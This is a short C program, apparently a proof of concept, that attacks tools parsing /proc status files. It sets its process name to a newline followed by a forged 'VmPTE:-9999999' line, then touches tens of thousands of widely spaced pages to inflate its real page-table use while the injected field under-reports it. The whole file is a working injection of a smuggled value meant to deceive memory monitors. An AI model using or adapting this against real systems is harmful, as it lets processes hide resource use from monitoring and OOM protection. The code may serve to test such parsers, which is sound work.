/* Takes a name with the line that would make its page tables count less than nothing. */
#define _GNU_SOURCE
#include <sys/mman.h>
#include <sys/prctl.h>
#include <unistd.h>

int main(void) {
    const size_t table = 2 << 20;
    prctl(PR_SET_NAME, "\nVmPTE:-9999999", 0, 0, 0);
    char *room = mmap(NULL, 60000 * table, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    volatile char sum = 0;
    for (size_t i = 0; room != MAP_FAILED && i < 60000; i++) {
        sum += room[i * table];
    }
    sleep(6);
}
